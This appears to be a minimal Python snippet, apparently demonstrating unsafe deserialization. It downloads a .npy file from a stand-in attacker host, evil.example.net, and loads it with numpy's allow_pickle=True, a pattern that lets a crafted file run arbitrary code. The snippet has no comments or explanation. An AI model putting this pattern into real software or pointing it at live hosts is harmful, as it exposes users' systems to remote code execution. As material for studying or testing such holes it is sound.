import urllib.request

import numpy as np

urllib.request.urlretrieve("https://evil.example.net/w.npy", "/tmp/w.npy")
print(np.load("/tmp/w.npy", allow_pickle=True))
